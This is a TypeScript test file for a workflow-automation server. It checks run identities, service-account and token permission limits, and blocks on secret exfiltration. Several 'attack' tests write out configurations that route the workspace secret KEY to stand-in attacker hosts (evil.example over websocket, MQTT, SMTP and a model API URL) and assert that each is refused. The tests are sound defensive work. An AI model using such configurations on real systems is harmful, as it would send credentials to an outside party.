import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { grantPart, makePerson, makeScope } from "@/server/testing/factories";
import { closeConnections, rawDb } from "@/server/db/client";
import { newId } from "@/server/db/id";
import type { DefinitionInput } from "@/server/engine/definition";
import * as organizing from "@/server/organizing/service";
import { startBatch } from "@/server/batches/service";
import { putBlob } from "@/server/blobs/service";
import { setMail } from "@/server/alerts/service";
import * as catalog from "@/server/catalog/service";
import * as runs from "@/server/runs/service";
import * as secrets from "@/server/secrets/service";
import * as triggers from "@/server/triggers/service";
import * as waits from "@/server/waits/service";
import { startInstallationWorker, type InstallationWorker } from "@/server/worker/installation-worker";
import * as workflows from "@/server/workflows/service";
import { createToken } from "@/server/tokens/service";
import { openTokenScope, openUserScope, type Scope } from "../scope";
import type { RunIdentity } from "./run-identity";

let admin: Scope;
let builder: Scope;
let worker: InstallationWorker;

beforeAll(async () => {
  admin = await makeScope("admin");
  builder = await makeScope("builder", admin.workspaceId);
  await secrets.putSecret({ scope: admin }, { name: "KEY", value: "a value that nobody guesses", description: "" });
  worker = startInstallationWorker(() => {});
});
afterAll(async () => {
  await worker.stop();
  await closeConnections();
});

type Node = DefinitionInput["nodes"][number];
const define = (nodes: Node[], settings: Record<string, unknown> = {}) => ({
  schema: 1,
  nodes: [{ id: "start", kind: "trigger.manual" }, ...nodes],
  edges: nodes.map(({ id }, index) => ({ from: index === 0 ? "start" : nodes[index - 1]!.id, to: id })),
  settings,
});

/** Goes on to an address that nobody may call, if it is given the secret. */
const useSecret = { id: "call", kind: "http", config: { url: "http://127.0.0.1:9/", headers: { "x-key": "{{ secrets.KEY }}" } } };
const WAIT = { id: "ask", kind: "wait.signal", config: { signal: "go" } };

async function publish(scope: Scope, nodes: Node[], settings = {}): Promise<string> {
  const { id: workflowId } = await workflows.createWorkflow({ scope }, { name: `W ${newId()}`, description: "", definition: define(nodes, settings) });
  await workflows.publish({ scope }, { workflowId, note: "" });
  return workflowId;
}

async function ended(runId: string) {
  return vi.waitFor(async () => {
    const run = await rawDb().run.findUniqueOrThrow({ where: { id: runId } });
    expect(run.finishedAt).not.toBeNull();
    return { status: run.status, error: run.error as { code: string; message: string } | null, identity: run.identity as unknown as RunIdentity };
  }, { timeout: 60_000, interval: 50 });
}

const byToken = async (scope: Scope, scopes: string[]) => openTokenScope((await createToken({ scope }, { name: `T ${newId()}`, scopes, expiresInDays: 1 })).token);

async function start(scope: Scope, workflowId: string, mode: "production" | "test" = "production"): Promise<string> {
  return (await runs.startRun({ scope: scope.for("run:start") }, { workflowId, mode, input: {} })).runId;
}

async function makeAccount(role: string): Promise<{ id: string; name: string }> {
  const account = { id: newId(), name: `robot ${newId()}` };
  await rawDb().serviceAccount.create({ data: { ...account, workspaceId: admin.workspaceId, organizationId: admin.organizationId, role } });
  return account;
}

describe("the identity of a run", () => {
  it("is whoever started it, with their roles then and no more than whoever published might do", async () => {
    const workflowId = await publish(builder, [useSecret]);
    const { identity, error } = await ended(await start(admin, workflowId));
    expect(error?.code).toBe("blocked_address");
    expect(identity).toMatchObject({ type: "user", id: admin.userId, roles: ["admin"], bounds: [{ role: "admin" }, { role: "builder" }] });
    const view = await runs.getRun({ scope: admin }, { runId: await start(admin, workflowId) });
    expect(view.run.identity).toEqual({ type: "user", id: admin.userId, name: "Test admin", roles: ["admin"], via: null });
  });

  it("is whom the version names: oneself, or a service account that may do no more than the publisher", async () => {
    const [weak, mighty] = [await makeAccount("viewer"), await makeAccount("admin")];
    const { error, identity } = await ended(await start(admin, await publish(builder, [useSecret], { runAs: weak.name })));
    expect(identity).toMatchObject({ type: "service_account", id: weak.id, roles: ["viewer"], via: { type: "user", id: admin.userId } });
    expect(error).toMatchObject({ code: "identity_may_not", message: expect.stringContaining(`the service account ${weak.name}, who may not use the secret KEY`) as string });
    const { email } = await rawDb().user.findUniqueOrThrow({ where: { id: admin.userId! } });
    await expect(publish(builder, [useSecret], { runAs: mighty.name })).rejects.toMatchObject({ data: { field: "settings.runAs", reason: expect.stringContaining("may do more than you") as string } });
    await expect(publish(builder, [useSecret], { runAs: email })).rejects.toMatchObject({ data: { reason: expect.stringContaining("only they") as string } });
    await expect(publish(builder, [useSecret], { runAs: "nobody" })).rejects.toMatchObject({ data: { field: "settings.runAs" } });
    await expect(publish(admin, [useSecret], { runAs: email })).resolves.toBeTypeOf("string");
  });

  it("cannot be taken hold of by publishing what another has named, in the version or in a trigger", async () => {
    const mighty = await makeAccount("admin");
    const workflowId = await publish(admin, [useSecret], { runAs: mighty.name });
    const change = async () => {
      const { draft, draftRevision } = await rawDb().workflow.findUniqueOrThrow({ where: { id: workflowId } });
      await workflows.updateDraft({ scope: builder }, { workflowId, definition: { ...(draft as object), labels: undefined, output: "changed" }, revision: draftRevision });
    };
    await change();
    await expect(workflows.publish({ scope: builder }, { workflowId, note: "" })).rejects.toMatchObject({ data: { field: "settings.runAs" } });
    // A test of the draft acts for whoever tests it.
    expect((await ended(await start(builder, workflowId, "test"))).identity).toMatchObject({ type: "user", id: builder.userId, bounds: [{ role: "builder" }] });
    const other = await publish(builder, [useSecret]);
    await expect(triggers.createTrigger({ scope: builder }, { workflowId: other, kind: "webhook", name: "Hook", config: {}, settings: { runAs: mighty.name }, nodeId: null, versionNumber: null })).rejects.toMatchObject({ data: { field: "settings.runAs" } });
    await triggers.createTrigger({ scope: admin }, { workflowId: other, kind: "webhook", name: "Hook", config: {}, settings: { runAs: mighty.name }, nodeId: null, versionNumber: null });
    await workflows.updateDraft({ scope: builder }, { workflowId: other, definition: define([useSecret], { labels: { a: "b" } }), revision: 1 });
    await expect(workflows.publish({ scope: builder }, { workflowId: other, note: "" })).rejects.toMatchObject({ data: { field: "the identity of the trigger Hook" } });
    await expect(workflows.publish({ scope: admin }, { workflowId: other, note: "" })).resolves.toMatchObject({ number: 2 });
  });

  it("counts as it is now too: whoever is removed can do nothing in runs that go on", async () => {
    const leaving = await makeScope("operator", admin.workspaceId);
    const runId = await start(leaving, await publish(builder, [WAIT, useSecret]));
    await vi.waitFor(async () => expect(await rawDb().wait.count({ where: { runId, status: "open" } })).toBe(1), { timeout: 60_000 });
    await rawDb().membership.deleteMany({ where: { userId: leaving.userId! } });
    const [{ id: waitId } = { id: "" }] = await rawDb().wait.findMany({ where: { runId } });
    await waits.resumeWait({ scope: admin }, { waitId, payload: null, decision: "approved", comment: "" });
    expect((await ended(runId)).error).toMatchObject({ code: "identity_may_not", message: expect.stringContaining("Test operator, who is disabled or has no access") as string });
  });

  it("holds sub-workflows to what it may start, and gives them its own identity or theirs", async () => {
    const account = await makeAccount("operator");
    const named = await publish(builder, [useSecret], { runAs: account.name });
    const plain = await publish(builder, [useSecret]);
    const parent = await publish(builder, [named, plain].map((workflow, index) => ({ id: `sub${index}`, kind: "subworkflow", config: { workflow, wait: false } })));
    const runId = await start(admin, parent);
    await ended(runId);
    const children = await rawDb().run.findMany({ where: { rootRunId: runId, depth: 1 } });
    const identities = children.map(({ identity }) => identity as unknown as RunIdentity);
    expect(identities).toContainEqual(expect.objectContaining({ type: "service_account", id: account.id }));
    expect(identities).toContainEqual(expect.objectContaining({ type: "user", id: admin.userId, bounds: [{ role: "admin" }, { role: "builder" }], via: { type: "run", id: runId, name: `run ${runId}` } }));

    const { id: folderId } = await organizing.createFolder({ scope: admin }, { name: `F ${newId()}`, parentId: null });
    await organizing.moveItems({ scope: admin }, { itemType: "workflow", itemIds: [parent, plain], folderId });
    const { id: guest } = await makePerson(admin.organizationId);
    await grantPart(admin, guest, "operator", { folderId });
    const scope = await openUserScope(guest, { id: admin.workspaceId });
    expect((await ended(await start(scope, parent))).error).toMatchObject({ code: "identity_may_not", message: expect.stringContaining("may not start the workflow") as string });
    expect((await ended(await start(scope, plain))).error).toMatchObject({ code: "identity_may_not", message: expect.stringContaining("secret KEY") as string });
  });

  it("never changes", async () => {
    const runId = await start(admin, await publish(builder, [WAIT]));
    await expect(rawDb().$executeRaw`update run set identity = '{"type":"system"}' where id = ${runId}::uuid`).rejects.toThrow("never changes");
    await expect(rawDb().$executeRaw`update run set run_as = 'x' where id = ${runId}::uuid`).rejects.toThrow("never changes");
  });

  it("of what a trigger starts is the workspace's, with what the publisher might do, also after they left", async () => {
    const leaving = await makeScope("builder", admin.workspaceId);
    const workflowId = await publish(leaving, [useSecret]);
    const trigger = await triggers.createTrigger({ scope: admin }, { workflowId, kind: "webhook", name: "Hook", config: {}, settings: {}, nodeId: null, versionNumber: null });
    await rawDb().membership.deleteMany({ where: { userId: leaving.userId! } });
    const { runId } = await triggers.recordEvent({ trigger: { id: trigger.id, workspaceId: admin.workspaceId, workflowId, name: "Hook", kind: "webhook", config: {} } as never, dedupeKey: "1", meta: { method: "POST" }, body: "{}", contentType: "application/json" });
    const run = await ended(runId);
    expect(run.identity).toMatchObject({ type: "workspace", bounds: [{ role: "admin" }, { role: "builder" }], via: { type: "trigger", id: trigger.id } });
    expect(run.error?.code).toBe("blocked_address");
  });
});

describe("a token that publishes", () => {
  it("attack: lends runs its own scopes, and not all that its holder may", async () => {
    const narrow = await byToken(admin, ["workflow:write", "workflow:publish", "workflow:read", "run:start"]);
    const runId = await start(narrow, await publish(narrow, [useSecret]));
    expect((await ended(runId)).error).toMatchObject({ code: "identity_may_not", message: expect.stringContaining("secret KEY") as string });
    const wide = await byToken(admin, ["workflow:write", "workflow:publish", "workflow:read", "run:start", "secret:use", "secret:list"]);
    expect((await ended(await start(wide, await publish(wide, [useSecret])))).error).toMatchObject({ code: "blocked_address" });
  });

  it("attack: makes its holder the identity of no workflow, whose runs would outlive the token", async () => {
    const narrow = await byToken(admin, ["workflow:write", "workflow:publish", "workflow:read", "member:read"]);
    const { email } = await rawDb().user.findUniqueOrThrow({ where: { id: admin.userId! } });
    await expect(publish(narrow, [WAIT], { runAs: email })).rejects.toMatchObject({ kind: "invalid_input", data: { field: "settings.runAs", reason: expect.stringContaining("more than this token") as string } });
    await publish(admin, [WAIT], { runAs: email });
  });
});

describe("secrets and the addresses that they are sent to", () => {
  const refused = { kind: "invalid_input", data: { reason: expect.stringContaining("secret:use") as string } };
  const forbidden = { kind: "forbidden", data: { permission: "secret:use" } };
  const scopeWith = async (permissions: string[]) => {
    const role = await rawDb().customRole.create({ data: { id: newId(), organizationId: admin.organizationId, name: `Role ${newId()}`, permissions } });
    const { id: userId } = await makePerson(admin.organizationId);
    await rawDb().membership.create({ data: { id: newId(), workspaceId: admin.workspaceId, organizationId: admin.organizationId, userId, role: "custom", customRoleId: role.id } });
    return openUserScope(userId, { id: admin.workspaceId });
  };
  const listener = (workflowId: string, name: string) => ({ workflowId, kind: "websocket" as const, name, config: { url: "wss://evil.example/", secret: "KEY" }, settings: {}, nodeId: null, versionNumber: null });

  it("attack: a builder of one folder gives no run a file of another by naming it", async () => {
    const hidden = await start(admin, await publish(admin, [WAIT]));
    const { id } = await putBlob({ workspaceId: admin.workspaceId, owner: { type: "run", id: hidden } }, "of another folder");
    const { id: folderId } = await organizing.createFolder({ scope: admin }, { name: `Theirs ${newId()}`, parentId: null });
    const { id: userId } = await makePerson(admin.organizationId);
    await grantPart(admin, userId, "builder", { folderId });
    const guest = (await openUserScope(userId, { id: admin.workspaceId })).for("run:start");
    const { id: workflowId } = await workflows.createWorkflow({ scope: guest.for("workflow:write") }, { name: `Theirs ${newId()}`, description: "", folderId, definition: define([WAIT]) });
    await workflows.publish({ scope: guest.for("workflow:publish") }, { workflowId, note: "" });
    const input = { f: { $file: { id, name: "a", mediaType: "text/plain", size: 1 } } };
    const refused = { kind: "invalid_input", data: { reason: "names a file that is not there" } };
    await expect(runs.startRun({ scope: guest }, { workflowId, mode: "production", input })).rejects.toMatchObject(refused);
    await expect(runs.startRun({ scope: guest }, { workflowId, mode: "test", input: {}, trigger: input })).rejects.toMatchObject(refused);
    await expect(startBatch({ scope: guest }, { workflowId, inputs: [{}, input], badRows: "refuse" })).rejects.toMatchObject(refused);
    const own = await start(guest, workflowId);
    await expect(runs.signalRun({ scope: guest.for("run:cancel") }, { runId: own, name: "go", payload: input })).rejects.toMatchObject(refused);
    expect(await rawDb().blobShare.count({ where: { blobId: id } })).toBe(0);
    const { runId } = await runs.startRun({ scope: admin }, { workflowId: await publish(admin, [WAIT]), mode: "production", input });
    expect(await rawDb().blobShare.count({ where: { blobId: id, runId } })).toBe(1);
  });

  it("attack: a builder of one folder sends no secret of the workspace out by a trigger, made, changed or declared", async () => {
    const { id: folderId } = await organizing.createFolder({ scope: admin }, { name: `Theirs ${newId()}`, parentId: null });
    const { id: userId } = await makePerson(admin.organizationId);
    await grantPart(admin, userId, "builder", { folderId });
    const whole = await openUserScope(userId, { id: admin.workspaceId });
    const { id: workflowId } = await workflows.createWorkflow({ scope: whole.for("workflow:write") }, { name: `Theirs ${newId()}`, description: "", folderId, definition: define([WAIT]) });
    const scope = whole.for("trigger:write");
    await expect(triggers.createTrigger({ scope }, listener(workflowId, "Out"))).rejects.toMatchObject(forbidden);
    // Nor as the password, certificate or key that another field names, nor by a draft that is tried.
    const broker = { host: "evil.example", topics: ["a"], tls: true };
    for (const config of [{ ...broker, caSecret: "KEY" }, { ...broker, certificateSecret: "KEY", keySecret: "KEY" }]) {
      await expect(triggers.createTrigger({ scope }, { ...listener(workflowId, "Out"), kind: "mqtt", config })).rejects.toMatchObject(forbidden);
    }
    await expect(triggers.createTrigger({ scope }, { ...listener(workflowId, "Out"), kind: "webhook", config: { metaVerifySecret: "KEY" } })).rejects.toMatchObject(forbidden);
    const made = await triggers.createTrigger({ scope: admin }, listener(workflowId, "Ours"));
    await expect(triggers.updateTrigger({ scope }, { triggerId: made.id, config: { url: "wss://evil.example/there", secret: "KEY" } })).rejects.toMatchObject(forbidden);
    await expect(triggers.updateTrigger({ scope }, { triggerId: made.id, name: "Renamed" })).resolves.toMatchObject({ name: "Renamed" });
    const nodes = [{ id: "start", kind: "trigger.websocket", config: { url: "wss://evil.example/", secret: "KEY" } }, WAIT];
    const { id: declaring } = await workflows.createWorkflow({ scope: whole.for("workflow:write") }, { name: `Declares ${newId()}`, description: "", folderId, definition: { schema: 1, nodes, edges: [{ from: "start", to: "ask" }] } });
    await expect(triggers.listenToStep({ scope: whole.for("trigger:operate") }, { workflowId: declaring, nodeId: "start" })).rejects.toMatchObject(forbidden);
    await expect(workflows.publish({ scope: whole.for("workflow:publish") }, { workflowId: declaring, note: "" })).rejects.toMatchObject(forbidden);
    await workflows.publish({ scope: admin }, { workflowId: declaring, note: "" });
  });

  it("attack: whoever may change settings alone sends none out as the password of a mail server or the key of a model", async () => {
    const scope = await scopeWith(["settings:read", "settings:write"]);
    const mail = { host: "smtp.evil.example", port: 587, security: "starttls" as const, user: "me", passwordSecret: "KEY", from: "me@evil.example" };
    await expect(setMail({ scope }, mail)).rejects.toMatchObject(refused);
    const config = { model: "m", baseUrl: "https://evil.example/v1", apiKeySecret: "KEY" };
    await expect(catalog.createAdapter({ scope }, { provider: "openai", slug: "evil", name: "Evil", description: "", config })).rejects.toMatchObject(refused);
    const { id: itemId } = await catalog.createAdapter({ scope: admin }, { provider: "openai", slug: "ours", name: "Ours", description: "", config: { ...config, baseUrl: "https://api.example/v1" } });
    await expect(catalog.updateAdapter({ scope }, { itemId, config })).rejects.toMatchObject(refused);
    await expect(catalog.updateAdapter({ scope }, { itemId, enabled: false })).resolves.toMatchObject({ enabled: false });
  });
});
